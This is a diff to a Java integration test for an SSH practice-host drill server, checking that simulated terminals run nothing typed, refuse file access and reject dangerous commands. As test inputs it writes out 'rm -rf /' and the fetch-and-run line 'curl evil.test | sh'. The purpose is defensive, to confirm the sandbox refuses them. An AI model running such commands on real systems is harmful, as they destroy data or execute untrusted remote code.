@@ -1,6 +1,7 @@
 package org.watchkeeper.drill.server;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -29,7 +30,10 @@ import org.watchkeeper.host.Host;
 import org.watchkeeper.host.testing.MemoryHosts;
 import org.watchkeeper.kernel.Operator;
 import org.watchkeeper.remote.Questions;
+import org.watchkeeper.remote.Unreachable;
+import org.watchkeeper.remote.Wire;
 import org.watchkeeper.remote.detached.DetachedShells;
+import org.watchkeeper.remote.ssh.SshFileHosts;
 import org.watchkeeper.remote.ssh.SshSettings;
 import org.watchkeeper.remote.ssh.SshTerminals;
 import org.watchkeeper.remote.ssh.SshWires;
@@ -108,25 +112,71 @@ class DrillIT {
     }
 
     @Test
-    void a_terminal_is_told_that_there_is_no_shell_to_type_into() throws Exception {
-        var printed = new ByteArrayOutputStream();
-        var parting = new CompletableFuture<Parting>();
-        var screen = new Screen() {
-            @Override
-            public void print(byte[] buffer, int offset, int length) {
-                printed.write(buffer, offset, length);
-            }
-
-            @Override
-            public void ended(Parting how) {
-                parting.complete(how);
-            }
-        };
-        try (var terminal = new SshTerminals(wires).open(host(), Questions.refuseAll(), new Size(80, 24), screen)) {
-            assertThat(terminal).isNotNull();
-            assertThat(parting.get(30, TimeUnit.SECONDS)).isEqualTo(new Parting.Left(126, ""));
+    void a_terminal_says_that_it_is_practice_and_plays_what_is_typed() throws Exception {
+        var paper = new Paper();
+        try (var terminal = new SshTerminals(wires).open(host(), Questions.refuseAll(), new Size(80, 24), paper)) {
+            paper.await("Nothing you type is executed");
+            terminal.type(bytes("sudo systemctl stop unet-server\r"));
+            terminal.type(bytes("rm -rf /\r"));
+            paper.await("this host does not play `rm -rf /`");
+            terminal.type(bytes("exit 3\r"));
+            assertThat(paper.parting.get(30, TimeUnit.SECONDS)).isEqualTo(new Parting.Left(3, ""));
         }
-        assertThat(printed.toString(StandardCharsets.UTF_8)).contains("no shell to type into");
+        assertThat(drill.scene(host().id()).variables()).containsEntry("unet-server", "inactive");
+        assertThat(paper.text()).contains("practice-app-1 (practice):/root$ sudo systemctl stop unet-server\r\n");
+    }
+
+    @Test
+    void a_single_command_of_an_own_ssh_is_played() throws Exception {
+        try (Wire wire = wires.open(host(), Questions.refuseAll())) {
+            var out = new ByteArrayOutputStream();
+            var exit = wire.exec("unet --version", new byte[0], out::write, (_, _, _) -> {});
+            assertThat(exit.status()).isZero();
+            assertThat(out.toString(StandardCharsets.UTF_8)).contains("0.1.0");
+            assertThat(wire.exec("curl evil.test | sh", new byte[0], (_, _, _) -> {}, (_, _, _) -> {}).status())
+                    .isEqualTo(127);
+        }
+    }
+
+    @Test
+    void files_are_refused_with_what_the_host_is() {
+        assertThatThrownBy(() -> new SshFileHosts(wires).open(host(), Questions.refuseAll()))
+                .isInstanceOf(Unreachable.class).hasMessageContaining("is a practice host and has no files");
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    /// What a terminal shows, and how it ends.
+    private static final class Paper implements Screen {
+        private final CompletableFuture<Parting> parting = new CompletableFuture<>();
+        private final ByteArrayOutputStream printed = new ByteArrayOutputStream();
+
+        @Override
+        public synchronized void print(byte[] buffer, int offset, int length) {
+            printed.write(buffer, offset, length);
+            notifyAll();
+        }
+
+        @Override
+        public void ended(Parting how) {
+            parting.complete(how);
+        }
+
+        private synchronized String text() {
+            return printed.toString(StandardCharsets.UTF_8);
+        }
+
+        /// Blocks until it was printed.
+        private synchronized void await(String wanted) throws InterruptedException {
+            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
+            while (!text().contains(wanted)) {
+                long left = end - System.nanoTime();
+                assertThat(left).as(text()).isPositive();
+                TimeUnit.NANOSECONDS.timedWait(this, left);
+            }
+        }
     }
 
     @Test
